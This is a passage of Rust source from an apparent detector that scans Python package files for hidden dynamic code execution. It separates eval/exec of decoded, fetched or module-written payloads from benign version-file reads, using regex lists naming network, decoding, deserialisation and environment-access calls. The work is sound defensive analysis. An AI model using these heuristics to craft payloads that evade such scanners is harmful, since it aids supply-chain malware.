        r"^[ \t]*(?:(?P<n>\w+)[ \t]*=[ \t]*(?P<v>[^\n=][^\n]*)|for[ \t]+(?P<f>\w+)[ \t]+in[ \t]+(?P<it>[^\n]+):)",
    )
    .expect("assigned line")
});

/// Every match of [`assigned_pattern`]`(name)` over `text`, in order, without compiling a
/// regex per name and call. Each match lies inside one line, starts at its start and holds
/// `name`, so at most one per line and only on lines holding `name`; for a name spelled in ASCII
/// word characters the per-name pattern matches a line exactly where [`ASSIGNED_LINE`] does with
/// the name group equal to `name` (in both, the name is a whole run of word characters: blanks
/// or the line start before it, a blank, `=` or `(` after; the two alternatives cannot both
/// match one line). Any other name is searched with the per-name pattern. Tested equal.
fn assignments(text: &str, name: &str) -> Rc<[Assignment]> {
    let Some(ix) = MemberIndex::of(text) else { return assignments_unindexed(text, name).into() };
    if let Some(known) = ix.assignments.borrow().get(name) {
        return known.clone();
    }
    let found: Rc<[Assignment]> = assignments_unindexed(text, name).into();
    ix.remember(&ix.assignments, name.to_string(), found.clone());
    found
}

/// [`assignments`] without the member's index.
fn assignments_unindexed(text: &str, name: &str) -> Vec<Assignment> {
    if !ascii_word(name) {
        return assignments_by_pattern(text, name);
    }
    let mut out = Vec::new();
    for (s, e) in lines_with(text, name) {
        let line = &text.as_bytes()[s..e];
        if !binds_before_eq(line, name) && !line.trim_ascii_start().starts_with(b"for") {
            continue;
        }
        let Some(c) = ASSIGNED_LINE.captures(&text[s..e]) else { continue };
        let at = |m: regex::Match<'_>| (s + m.start(), s + m.end());
        if c.name("n").is_some_and(|n| n.as_str() == name) {
            out.push(Assignment { start: s, value: c.name("v").map(|v| s + v.start()), iterated: None });
        } else if c.name("f").is_some_and(|f| f.as_str() == name) {
            out.push(Assignment { start: s, value: None, iterated: c.name("it").map(at) });
        }
    }
    out
}

/// The assignment pattern of [`assigned_values`] with `name` spliced in.
fn assigned_pattern(name: &str) -> String {
    format!(r"(?m)^[ \t]*(?:{name}[ \t]*=[ \t]*(?P<v>[^\n=][^\n]*)|for[ \t]+{name}[ \t]+in[ \t]+(?P<it>[^\n]+):)")
}

/// [`assignments`] by compiling [`assigned_pattern`]`(name)` and searching the whole text.
fn assignments_by_pattern(text: &str, name: &str) -> Vec<Assignment> {
    let Ok(re) = Regex::new(&assigned_pattern(name)) else { return Vec::new() };
    re.captures_iter(text)
        .map(|c| Assignment {
            start: c.get(0).expect("match").start(),
            value: c.name("v").map(|v| v.start()),
            iterated: c.name("it").map(|m| (m.start(), m.end())),
        })
        .collect()
}

/// A byte test every line matched by [`ASSIGNED_LINE`] with the name `name` (its first
/// alternative) or by [`UNPACKED_LINE`] with `name` among the targets passes, so that the
/// captures search (the costly part: a bounded backtracker over the whole line) runs only on
/// lines that can match. In both, what precedes the matched `=` is blanks, brackets, commas and
/// word characters (`\w`: ASCII letters, digits, `_`, or a non-ASCII character, whose bytes
/// are all ≥ 0x80), so that `=` is the line's first, and `name` is one whole run of word
/// characters there: no word byte (nor any byte ≥ 0x80: a non-ASCII word character would
/// lengthen the run, any other cannot stand there) touches it. Necessary, not sufficient: the
/// regex still decides. Tested equal (the per-name searches).
fn binds_before_eq(line: &[u8], name: &str) -> bool {
    let Some(eq) = memchr::memchr(b'=', line) else { return false };
    let targets = &line[..eq];
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80;
    targets.iter().all(|&b| word(b) || matches!(b, b' ' | b'\t' | b'(' | b')' | b','))
        && memchr::memmem::find_iter(targets, name.as_bytes()).any(|p| {
            let starts = p == 0 || !word(targets[p - 1]);
            starts && targets.get(p + name.len()).is_none_or(|&b| !word(b))
        })
}

/// Whether `name` is spelled in ASCII letters, digits and `_` only (see [`assignments`]).
fn ascii_word(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// The lines of `text` that hold `name`, ascending, each once: (start, end before its `\n`).
fn lines_with(text: &str, name: &str) -> Vec<(usize, usize)> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut next = 0;
    for p in memchr::memmem::find_iter(b, name.as_bytes()) {
        if p < next {
            continue;
        }
        let start = memchr::memrchr(b'\n', &b[..p]).map_or(0, |i| i + 1);
        let end = memchr::memchr(b'\n', &b[p..]).map_or(b.len(), |i| p + i);
        out.push((start, end));
        next = end + 1;
    }
    out
}

/// The rest of the logical line from byte `start`: physical lines joined while a bracket is
/// open (`v = [line for line in open(p)\n        if line.startswith("V")][0]`), newlines and
/// the indentation after them folded into one space; at most 2,000 bytes.
fn logical_line(text: &str, start: usize) -> String {
    let mut depth = 0i32;
    let mut quote: Option<char> = None;
    let mut end = text.len().min(start + 2000);
    for (i, ch) in text[start..].char_indices() {
        if start + i >= end {
            break;
        }
        match (quote, ch) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), '\n') => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(ch),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => depth -= 1,
            (None, '#') if depth <= 0 => {
                end = start + i;
                break;
            }
            (None, '\n') if depth <= 0 => {
                end = start + i;
                break;
            }
            _ => {}
        }
    }
    let end = pysrc::floor_char(text, end);
    text[start..end].split('\n').map(str::trim).collect::<Vec<_>>().join(" ")
}

/// Where the top-level statement holding byte `off` starts: the last line at or before it
/// that starts in column 0 with code (`else:`, `elif`, `except`, `finally` continue the
/// statement before them).
fn top_statement_start(text: &str, off: usize) -> usize {
    if let Some(ix) = MemberIndex::of(text) {
        let tops = ix.tops.get_or_init(|| top_statement_starts(text));
        // The last top-level line start at or before `off` (line starts are char boundaries).
        return tops.partition_point(|&s| s <= off).checked_sub(1).map_or(0, |i| tops[i]);
    }
    top_statement_start_walk(text, off)
}

/// [`top_statement_start`] by walking back line by line (a member's index holds them all).
fn top_statement_start_walk(text: &str, off: usize) -> usize {
    let mut end = pysrc::floor_char(text, off.min(text.len()));
    loop {
        let start = text[..end].rfind('\n').map_or(0, |i| i + 1);
        if opens_top_statement(&text[start..]) || start == 0 {
            return start;
        }
        end = start - 1;
    }
}

/// Whether the line starting `rest` (the text from a line start on) opens a top-level
/// statement: it starts in column 0 with code, and is not `else:`, `elif`, `except`, `finally`.
fn opens_top_statement(rest: &str) -> bool {
    !rest.starts_with([' ', '\t', '\r', '\n', '#', ')', ']', '}'])
        && !["else", "elif", "except", "finally"]
            .iter()
            .any(|k| rest.strip_prefix(k).is_some_and(|r| r.starts_with([':', ' ', '(']) || r.is_empty()))
}

/// Every start of a line that opens a top-level statement, ascending, and 0 (one pass).
fn top_statement_starts(text: &str) -> Vec<usize> {
    let lines = std::iter::once(0).chain(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i + 1));
    lines.filter(|&s| s == 0 || opens_top_statement(&text[s..])).collect()
}

/// What decides which bindings reach a use at byte `at` ([`reaches`]): the use's top-level
/// statement when it is a `def`/`class` (its locals, and module-level code), else `usize::MAX`
/// (module-level code: every module-level binding, whichever statement holds the use).
fn scope_key(text: &str, at: usize) -> usize {
    let top = top_statement_start(text, at);
    match ["def ", "async ", "class "].iter().any(|k| text[top..].starts_with(k)) {
        true => top,
        false => usize::MAX,
    }
}

/// Per-member indexes for one [`DynamicCode::scan_text`] call, so that the per-name lookups
/// cost linear time in a member of thousands of opens, assignments and execs (20,000 `with
/// open(p) as f: exec(f.read())` blocks took minutes, past `max_scan_seconds`, which a member's
/// detector run does not check): the top-level statement starts (found once, then a binary
/// search), each name's assignment lines, the values reaching a scope ([`scope_key`]: every
/// module-level use shares one), each path's judgement, and what the module writes to. Consulted only for the exact
/// text it was entered for (same start and length; a slice of it is looked up directly),
/// dropped when the call returns; each map keeps at most [`MemberIndex::MAX_ENTRIES`] entries
/// (past that, lookups are computed again). Results equal the direct lookups (tested).
/// A value assigned to a name, with the assignment's offset (see [`assigned_values`]).
type Value = (String, usize);
/// The values reaching a scope, by (name, [`scope_key`]).
type ValuesByScope = HashMap<(String, usize), Rc<[Value]>>;

struct MemberIndex {
    text: (usize, usize),
    tops: std::cell::OnceCell<Vec<usize>>,
    assignments: RefCell<HashMap<String, Rc<[Assignment]>>>,
    values: RefCell<ValuesByScope>,
    local_paths: RefCell<HashMap<(String, usize, u8), bool>>,
    write_targets: std::cell::OnceCell<Option<Vec<String>>>,
    /// Whether the member fetches anything ([`FETCHES`] anywhere in it).
    fetches: std::cell::OnceCell<bool>,
}

thread_local! {
    static MEMBER_INDEX: RefCell<Option<Rc<MemberIndex>>> = const { RefCell::new(None) };
}

impl MemberIndex {
    const MAX_ENTRIES: usize = 4096;

    /// The index entered for exactly this text, if any.
    fn of(text: &str) -> Option<Rc<MemberIndex>> {
        let id = (text.as_ptr() as usize, text.len());
        MEMBER_INDEX.with(|i| i.borrow().as_ref().filter(|ix| ix.text == id).cloned())
    }

    fn remember<K: std::hash::Hash + Eq, V>(&self, map: &RefCell<HashMap<K, V>>, key: K, value: V) {
        let mut map = map.borrow_mut();
        if map.len() < Self::MAX_ENTRIES {
            map.insert(key, value);
        }
    }
}

/// The member index of one `scan_text` call, in force until dropped (then the one before).
struct Indexed(Option<Rc<MemberIndex>>);

impl Indexed {
    fn enter(text: &str) -> Indexed {
        let ix = MemberIndex {
            text: (text.as_ptr() as usize, text.len()),
            tops: std::cell::OnceCell::new(),
            assignments: RefCell::default(),
            values: RefCell::default(),
            local_paths: RefCell::default(),
            write_targets: std::cell::OnceCell::new(),
            fetches: std::cell::OnceCell::new(),
        };
        Indexed(MEMBER_INDEX.with(|i| i.replace(Some(Rc::new(ix)))))
    }
}

impl Drop for Indexed {
    fn drop(&mut self) {
        let before = self.0.take();
        MEMBER_INDEX.with(|i| *i.borrow_mut() = before);
    }
}

/// Anything in a helper's body that fetches, decodes a payload, unpacks or reads input
/// (a text `.decode("utf-8")` and path building are fine there).
static HELPER_NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|socket|getresponse|b64|base64|b32|b85|a85|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|rot13|exec|eval|input\(|stdin|environ|getenv|argv|{OUTSIDE}"))
        .expect("helper not local")
});

/// `def func(…):` in `text` whose body (up to the next line at the def's indentation or
/// less) opens or reads a file and does nothing [`HELPER_NOT_LOCAL`] names.
fn helper_reads_local_file(text: &str, func: &str) -> bool {
    let Some((indent, start)) = helper_def(text, func) else {
        return lambda_reads_local_file(text, func);
    };
    let mut body_end = text.len();
    // The body starts on the line after the signature (a one-line `def f(): return …` has none).
    let mut offset = text[start..].find('\n').map_or(text.len(), |i| start + i + 1);
    for line in text[offset..].split_inclusive('\n') {
        let trimmed = line.trim_start();
        if !trimmed.is_empty() && !trimmed.starts_with('#') && line.len() - trimmed.len() <= indent {
            body_end = offset;
            break;
        }
        offset += line.len();
    }
    // Judge the code: comments may name anything ("exec() and compile() need '\\n'").
    let blanked = blank_strings(&text[start.min(body_end)..body_end]);
    let body = COMMENT.replace_all(&blanked, "");
    let reads = body.contains("open(") || body.contains(".read_text(") || body.contains(".read_bytes(");
    reads && body.contains("return") && !HELPER_NOT_LOCAL.is_match(&body)
}

/// `func = lambda *parts: io.open(os.path.join(here, *parts)).read()`: a read helper written as
/// a lambda, judged like a `def` helper's body ([`HELPER_NOT_LOCAL`]).
fn lambda_reads_local_file(text: &str, func: &str) -> bool {
    let Some(m_end) = lambda_of(text, func) else {
        return false;
    };
    // The body may continue on the next lines (`\` or an open bracket).
    let rest = &text[m_end..pysrc::floor_char(text, (m_end + 2000).min(text.len()))];
    let body = logical_line(&rest.replace("\\\n", " "), 0);
    let blanked = blank_strings(&body);
    let body = COMMENT.replace_all(&blanked, "");
    let reads = body.contains("open(") || body.contains(".read_text(") || body.contains(".read_bytes(");
    reads && !HELPER_NOT_LOCAL.is_match(&body)
}

/// The per-name pattern of [`lambda_of`].
fn lambda_pattern(func: &str) -> String {
    format!(r"(?m)^[ \t]*{func}[ \t]*=[ \t]*lambda\b[^:\n]*:")
}

/// Where the first match of [`lambda_pattern`]`(func)` ends (after the lambda's `:`). Without
/// compiling a regex per call: for a name spelled in ASCII word
/// characters, the occurrence that can match is the first of its line, the lines are met in
/// order, and the `:` is the first after `lambda` on the line. Else the pattern. Tested equal.
fn lambda_of(text: &str, func: &str) -> Option<usize> {
    if !ascii_word(func) {
        return Regex::new(&lambda_pattern(func)).ok()?.find(text).map(|m| m.end());
    }
    let b = text.as_bytes();
    let blank = |c: &u8| *c == b' ' || *c == b'\t';
    memchr::memmem::find_iter(b, func.as_bytes()).find_map(|p| {
        // Only blanks back to the line's start (walked back over blanks only: linear).
        let ind = b[..p].iter().rev().take_while(|c| blank(c)).count();
        if p > ind && b[p - ind - 1] != b'\n' {
            return None;
        }
        let mut i = p + func.len();
        i += b[i..].iter().take_while(|c| blank(c)).count();
        if b.get(i) != Some(&b'=') {
            return None;
        }
        i += 1;
        i += b[i..].iter().take_while(|c| blank(c)).count();
        if !b[i..].starts_with(b"lambda") {
            return None;
        }
        i += "lambda".len();
        if text[i..].chars().next().is_some_and(word_char) {
            return None;
        }
        let stop = memchr::memchr2(b':', b'\n', &b[i..])?;
        (b[i + stop] == b':').then_some(i + stop + 1)
    })
}

/// `def <name>(` at a line start, any name (checked after): see [`helper_def`].
static DEF_LINE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(?P<ind>[ \t]*)def[ \t]+(?P<f>\w+)[ \t]*\(").expect("def line"));

/// The first `def func(` at a line start: its indentation and where the match ends. As
/// [`assignments`]: one match per line at most, on lines holding `func`, where [`DEF_LINE`]
/// matches with the name `func` when it is spelled in ASCII word characters; else the per-name
/// pattern ([`helper_def_by_pattern`]). Tested equal.
fn helper_def(text: &str, func: &str) -> Option<(usize, usize)> {
    if !ascii_word(func) {
        return helper_def_by_pattern(text, func);
    }
    lines_with(text, func).into_iter().find_map(|(s, e)| {
        let c = DEF_LINE.captures(&text[s..e]).filter(|c| &c["f"] == func)?;
        Some((c["ind"].len(), s + c.get(0).expect("match").end()))
    })
}

/// [`helper_def`] by compiling the per-name pattern and searching the whole text.
fn helper_def_by_pattern(text: &str, func: &str) -> Option<(usize, usize)> {
    let re = Regex::new(&format!(r"(?m)^(?P<ind>[ \t]*)def[ \t]+{func}[ \t]*\(")).ok()?;
    let c = re.captures(text)?;
    Some((c.name("ind").map_or(0, |m| m.as_str().len()), c.get(0).expect("match").end()))
}

/// Python 2's `execfile(os.path.join(here, "pkg", "version.py"), ns)`: a path built from
/// literals and names, in a module that downloads nothing.
fn execfile_of_local_path(text: &str, after_paren: usize) -> bool {
    let Some(args) = argument_text(text, after_paren) else {
        return false;
    };
    let blanked = blank_strings(args);
    let path = first_argument(&blanked).trim();
    !path.is_empty()
        && !module_fetches(text)
        && path_names_local(path, text, after_paren, 0)
        && !path.contains("read")
        && !written_by_module(text, args)
        && !names_a_non_code_file(text, args, None)
}

/// Where the module writes a file (its path expression, unblanked): `open(p, "w")` (any
/// writing mode, also `io.open`/`codecs.open`/a path's `.open`), `p.write_text(…)`,
/// `p.write_bytes(…)`, and the destination of `shutil.copy*`/`shutil.move`/`os.rename`/`os.replace`.
static WRITES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:\bopen\s*\(\s*(?P<o>[^,()]*(?:\([^()]*\)[^,()]*)*),\s*(?:mode\s*=\s*)?[rbuRBU]?['"][rbt]*[wax]|(?P<p>[\w.]*\([^()\n]*\)|[\w.]+)\s*\.write_(?:text|bytes)\s*\(|(?:shutil\.(?:copy\w*|move)|os\.(?:rename|replace))\s*\([^,()]*(?:\([^()]*\)[^,()]*)*,\s*(?P<d>[^()\n]*(?:\([^()]*\)[^()\n]*)*)\))"#)
        .expect("writes")
});

/// [`WRITES`] with an ASCII word boundary before `open`, for texts where the two find the same
/// matches ([`writes_regex`]). Unicode `\b` makes the regex crate's DFA give up at the first
/// non-ASCII byte and search the rest of the member with the much slower PikeVM, once per
/// `exec`/`eval` argument checked.
static WRITES_ASCII_B: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&WRITES.as_str().replacen(r"\bopen", r"(?-u:\b)open", 1)).expect("writes"));

/// [`WRITES`], or [`WRITES_ASCII_B`] when no `open` in `text` follows a non-ASCII byte. The
/// pattern's one `\b` stands before `open`; before an ASCII byte both boundaries agree (the
/// ASCII word characters are Unicode's), so the two regexes can differ only at an `open` after
/// a non-ASCII character (tested equal on named cases and random texts).
fn writes_regex(text: &str) -> &'static Regex {
    let after_non_ascii =
        memchr::memmem::find_iter(text.as_bytes(), "open").any(|i| i > 0 && text.as_bytes()[i - 1] >= 0x80);
    if after_non_ascii {
        &WRITES
    } else {
        &WRITES_ASCII_B
    }
}

/// Whether the file an exec argument (unblanked) reads is one the module also writes, in a
/// module that decodes or builds text from character codes: a string literal naming the same
/// file (the same last path segment, `version.py` in `os.path.join(here, "pkg",
/// "version.py")`), or the same path variable. What such a module wrote is not the sdist's
/// own file: it is whatever the module put there.
fn written_by_module(text: &str, args: &str) -> bool {
    let files = |s: &str| -> Vec<String> {
        STRING
            .find_iter(s)
            .map(|m| m.as_str().trim_matches(['"', '\'']).rsplit(['/', '\\']).next().unwrap_or("").to_string())
            .filter(|f| f.len() > 1 && (f.contains('.') || f.chars().all(|c| c.is_ascii_uppercase() || c == '_')))
            .collect()
    };
    let ix = MemberIndex::of(text);
    let unindexed;
    let targets = match &ix {
        Some(ix) => ix.write_targets.get_or_init(|| write_targets(text)),
        None => {
            unindexed = write_targets(text);
            &unindexed
        }
    };
    let Some(targets) = targets else { return false };
    let read = files(args);
    let names: Vec<&str> = PATH_NAME
        .captures_iter(args)
        .filter(|c| c["next"].is_empty())
        .map(|c| c.get(1).expect("name").as_str())
        .collect();
    targets.iter().any(|target| {
        files(target).iter().any(|f| read.contains(f))
            || (!target.is_empty()
                && target.chars().all(|ch| ch.is_alphanumeric() || ch == '_')
                && names.contains(&target.as_str()))
    })
}

/// What the module writes to (each write's target expression, trimmed), for
/// [`written_by_module`]; `None` when the module neither decodes nor builds text from
/// character codes: what the module writes from its own literals and facts (a version file
/// generated from a template and the git hash, then read back) is as readable as the module,
/// so a write is a hiding place only in a module that also decodes or calls `chr(`.
fn write_targets(text: &str) -> Option<Vec<String>> {
    if !DECODES.is_match(text) && !text.contains("chr(") {
        return None;
    }
    let targets = writes_regex(text)
        .captures_iter(text)
        .map(|c| c.name("o").or(c.name("p")).or(c.name("d")).map_or("", |m| m.as_str()).trim().to_string());
    Some(targets.collect())
}

/// The first top-level argument of an argument list (commas inside brackets do not split).
fn first_argument(args: &str) -> &str {
    let mut depth = 0i32;
    for (i, ch) in args.char_indices() {
        match ch {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => depth -= 1,
            ',' if depth == 0 => return &args[..i],
            _ => {}
        }
    }
    args
}

/// For `open(<path>).read()` (also `io.open`, `codecs.open`) and `<path>.read_text(…)`: the
/// argument with the path expression cut out, when the path builds a path and nothing else.
fn without_path_expression(first: &str) -> Option<String> {
    if let Some(path) = first.strip_suffix(".read_text()").or_else(|| {
        let (head, tail) = first.rsplit_once(".read_text(")?;
        tail.ends_with(')').then_some(head)
    }) {
        return (!PATH_NOT_LOCAL.is_match(path) && !path.contains("open(")).then(|| "_.read_text()".to_string());
    }
    let body = first.strip_suffix(".read()")?;
    let body = body.strip_prefix('(').and_then(|b| b.strip_suffix(')')).unwrap_or(body).trim();
    let inner = ["open(", "io.open(", "codecs.open("].iter().find_map(|p| body.strip_prefix(p))?;
    let path = inner.strip_suffix(')')?;
    (!PATH_NOT_LOCAL.is_match(path)).then(|| "open(_).read()".to_string())
}

/// Decoders and unpackers: a value passed through one of them may be a hidden payload.
static DECODES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\b(?:b64decode|b32decode|b85decode|a85decode|decompress|unhexlify|fromhex|marshal|codecs\.decode|rot_?13)\b",
    )
    .expect("decodes")
});

/// `eval(value, variables, variables)` inside `def eval_marker(value):`, the environment-marker
/// evaluator of old setup.py files: `eval` of the enclosing function's own parameter, with an
/// explicit namespace, where every call of the function in the file passes a name or attribute
/// (`eval_marker(marker)`, the marker split from a `setup.cfg` line) that the file never
/// assigns a string literal, and the file neither downloads nor decodes. The evaluated text
/// comes from the caller's data, not from the file: Medium, not the High of code built in
/// place. A literal, a call (`eval_marker(b64decode(x))`), a name holding a literal, a
/// download or a decoder anywhere in the file, or no namespace argument keep High.
fn eval_of_caller_value(text: &str, at: usize, after_paren: usize) -> bool {
    let Some(args) = argument_text(text, after_paren) else {
        return false;
    };
    let args = super::fold::split_args(args);
    let ident = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || c == '_');
    let Some(param) = args.first().map(|a| a.trim()).filter(|a| ident(a)) else {
        return false;
    };
    if args.len() < 2 || module_fetches(text) || DECODES.is_match(text) {
        return false;
    }
    // The enclosing `def`: the nearest line above with less indentation that starts one.
    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
    let indent = |l: &str| l.len() - l.trim_start_matches([' ', '\t']).len();
    let own = indent(&text[line_start..]);
    let mut func = None;
    for line in text[..line_start].lines().rev() {
        if line.trim().is_empty() || line.trim_start().starts_with('#') || indent(line) >= own {
            continue;
        }
        let head = line.trim_start();
        func = head.strip_prefix("def ").map(|h| h.split_once('(').map(|(n, p)| (n.trim(), p)));
        break;
    }
    let Some(Some((name, params))) = func else {
        return false;
    };
    let params = params.split(')').next().unwrap_or("");
    let names: Vec<&str> = params.split(',').map(|p| p.split([':', '=']).next().unwrap_or("").trim()).collect();
    if !ident(name) || !names.contains(&param) {
        return false;
    }
    // Each call passes a name or an attribute, never assigned a literal in the file.
    let mut called = false;
    let mut literals = None;
    for (open, def) in calls_of(text, name) {
        if def {
            continue;
        }
        let Some(first) = argument_text(text, open).map(|a| first_argument(a).trim()) else {
            return false;
        };
        if first.is_empty() || !first.chars().all(|ch| ch.is_alphanumeric() || ch == '_' || ch == '.') {
            return false;
        }
        if literals.get_or_insert_with(|| literal_targets(text)).contains(first) {
            return false;
        }
        called = true;
    }
    called
}

/// Whether `c` is a regex `\w` (Unicode word character), as the per-name patterns read it.
fn word_char(c: char) -> bool {
    regex_syntax::try_is_word_character(c).unwrap_or(c.is_alphanumeric() || c == '_')
}

/// Where a match of the per-name pattern `(?:^|[^\w.])` ends at byte `i`: its start (the text's
/// start, or one character that is neither a word character nor `.`), if it can.
fn opens_at(text: &str, i: usize) -> Option<usize> {
    if i == 0 {
        return Some(0);
    }
    let c = text[..i].chars().next_back()?;
    (c != '.' && !word_char(c)).then(|| i - c.len_utf8())
}

/// The per-name pattern of [`calls_of`].
fn calls_pattern(name: &str) -> String {
    format!(r"(?:^|[^\w.])(?P<def>def\s+)?{name}\s*\(")
}

/// Every match of [`calls_pattern`]`(name)` over `text`, in order: where it ends (after the
/// `(`) and whether it is the `def`. Without compiling a regex per call: from each occurrence
/// of `name` followed by blanks and `(`, the match starts at `def` and its blanks before the
/// name if they are there and can start one, else at the character before the name; a start
/// before the end of the previous match is no start (the matches do not overlap). For a name
/// spelled in ASCII word characters (other than `def`) no occurrence inside another's match
/// can match, and a later occurrence never starts before an earlier one, so the first start
/// found is the regex's leftmost. Any other name is searched with the pattern. Tested equal.
fn calls_of(text: &str, name: &str) -> Vec<(usize, bool)> {
    if !ascii_word(name) || name == "def" {
        return calls_of_by_pattern(text, name);
    }
    let mut out = Vec::new();
    let mut pos = 0;
    for p in memchr::memmem::find_iter(text.as_bytes(), name.as_bytes()) {
        if p < pos {
            continue;
        }
        let after = &text[p + name.len()..];
        let rest = after.trim_start_matches(char::is_whitespace);
        if !rest.starts_with('(') {
            continue;
        }
        let end = p + name.len() + (after.len() - rest.len()) + 1;
        let head = &text[..p];
        let blanks = head.trim_end_matches(char::is_whitespace);
        let def = (blanks.len() < head.len() && blanks.ends_with("def"))
            .then(|| opens_at(text, blanks.len() - 3))
            .flatten()
            .filter(|&s| s >= pos);
        if def.is_some() {
            out.push((end, true));
        } else if opens_at(text, p).is_some_and(|s| s >= pos) {
            out.push((end, false));
        } else {
            continue;
        }
        pos = end;
    }
    out
}

/// [`calls_of`] by compiling [`calls_pattern`]`(name)` and searching the whole text.
fn calls_of_by_pattern(text: &str, name: &str) -> Vec<(usize, bool)> {
    let Ok(re) = Regex::new(&calls_pattern(name)) else { return Vec::new() };
    re.captures_iter(text).map(|c| (c.get(0).expect("match").end(), c.name("def").is_some())).collect()
}

/// The per-name pattern of [`literal_targets`].
#[cfg(test)]
fn literal_pattern(name: &str) -> String {
    format!(r#"(?m)^[ \t]*{}[ \t]*=[ \t]*[rbfuRBFU]{{0,2}}['"]"#, regex::escape(name))
}

/// Every `name` for which [`literal_pattern`]`(name)` matches `text`, for a name of
/// alphanumeric characters, `_` and `.` (a caller's first argument): the targets of the lines
/// that start (after blanks and tabs) with a run of bytes other than blanks, tabs and `=`,
/// assigned a string literal. Such a name matches a line exactly when it is that line's run
/// (it holds no blank, tab or `=`, and the pattern wants blanks or `=` right after it). One
/// pass over the lines serves every call of the function (the pattern compiled and searched
/// per call was one pass per call). Tested equal.
fn literal_targets(text: &str) -> std::collections::HashSet<&str> {
    let blank = |c: &u8| *c == b' ' || *c == b'\t';
    let mut out = std::collections::HashSet::new();
    for line in text.split('\n') {
        let b = line.as_bytes();
        let ind = b.iter().take_while(|c| blank(c)).count();
        let len = b[ind..].iter().take_while(|&&c| !blank(&c) && c != b'=').count();
        if len == 0 {
            continue;
        }
        let mut i = ind + len;
        i += b[i..].iter().take_while(|c| blank(c)).count();
        if b.get(i) != Some(&b'=') {
            continue;
        }
        i += 1;
        i += b[i..].iter().take_while(|c| blank(c)).count();
        for k in 0..=2 {
            match b.get(i + k) {
                Some(b'\'' | b'"') => {
                    out.insert(&line[ind..ind + len]);
                    break;
                }
                Some(c) if k < 2 && b"rbfuRBFU".contains(c) => {}
                _ => break,
            }
        }
    }
    out
}

/// `eval(line.split("=")[1])`, `eval(re.search(…).group(1))`: a literal parsed from a line
/// of a file (the version idiom), in a module that downloads nothing. A line the module
/// assigns (`for line in fp:`) must come from a file of the package (`for line in
/// sys.stdin:` does not); a parameter is judged by the argument alone. The literal may also
/// sit in a variable: `value = line.split("=")[1]`, or one target of an unpacked split
/// (`name, value = line.split("=")`, `name, value = (i.strip() for i in line.split("="))`).
fn eval_of_parsed_literal(text: &str, after_paren: usize) -> bool {
    let Some(args) = argument_text(text, after_paren) else {
        return false;
    };
    let blanked = blank_strings(args);
    let first = first_argument(&blanked).trim();
    !module_fetches(text) && parsed_from_local_line(first, text, after_paren, 0)
}

/// Whether `expr` (strings blanked), used at byte `at`, is a literal parsed out of a line of a
/// file of the package: see [`eval_of_parsed_literal`].
fn parsed_from_local_line(expr: &str, text: &str, at: usize, depth: u8) -> bool {
    let expr = without_text_methods(expr.trim());
    if PATH_NOT_LOCAL.is_match(expr) {
        return false;
    }
    // Text methods inside the chain change no origin: `line.strip().split()[-1]`.
    let expr = &*INNER_TEXT_METHODS.replace_all(expr, ".");
    // `open(p).read().split("=")[1]`, `p.read_text().split("=")[1]`: a parse of a whole file read.
    for read in [".read().", ".read_text()."] {
        if let Some(i) = expr.find(read) {
            let (head, tail) = expr.split_at(i + read.len() - 1);
            return PARSED_LITERAL.is_match(&format!("x{tail}")) && reads_local_file(head, text, at, 1);
        }
    }
    if PARSED_LITERAL.is_match(expr) {
        let receiver = expr.split(['.', '[']).next().unwrap_or("");
        return line_of_local_file(receiver, expr, text, at);
    }
    let ident = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || c == '_');
    if depth >= 2 {
        return false;
    }
    // `m.group(1)` with `m = pattern.search(line)`: a regex group of what was searched.
    if let Some(c) = MATCH_GROUP.captures(expr) {
        let values = assigned_values(text, &c[1], at);
        return !values.is_empty() && values.iter().all(|(v, o)| search_of_local_line(v, text, *o));
    }
    if !ident(expr) {
        return false;
    }
    let values = unpacked_values(text, expr, at);
    !values.is_empty()
        && values.iter().all(|(v, o, unpacked)| match unpacked {
            false => parsed_from_local_line(v, text, *o, depth + 1),
            true => SPLIT_UNPACK.captures(v).is_some_and(|c| line_of_local_file(&c["recv"], v, text, *o)),
        })
}

/// `m.group(N)` (strings blanked): a group of a match object held in a name.
static MATCH_GROUP: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(\w+)\.group\(\s*\d*\s*\)$").expect("match group"));
/// A regex search (strings blanked): `re.search('', subject)` or `pattern.search(subject)`.
static SEARCH: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(?P<recv>\w+)\.(?:search|match|fullmatch)\((?P<args>.*)\)$").expect("search"));
/// A pattern compiled from a literal (strings blanked): `re.compile(r'', re.M)`.
static COMPILED_LITERAL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^re\.compile\(\s*[rRbBuU]{0,2}''\s*(?:,\s*[\w.| ]+)?\)$").expect("compiled literal"));

/// Whether `value` (strings blanked), assigned at byte `at`, searches a line (or the text) of a
/// file of the package with a literal pattern: `re.search('', line)`, or `pattern.search(line)`
/// where every value the module gives `pattern` compiles a literal. The subject is judged like
/// the receiver of a parse ([`line_of_local_file`]), or as a read when it is not a name.
fn search_of_local_line(value: &str, text: &str, at: usize) -> bool {
    let Some(c) = SEARCH.captures(value.trim()) else {
        return false;
    };
    let args = super::fold::split_args(&c["args"]);
    let (recv, subject) = match &c["recv"] {
        "re" if args.len() >= 2 && args[0].trim().trim_start_matches(['r', 'b', 'u']) == "''" => ("re", args[1].trim()),
        "re" => return false,
        recv if args.len() == 1 => (recv, args[0].trim()),
        _ => return false,
    };
    if recv != "re" {
        let patterns = assigned_values(text, recv, at);
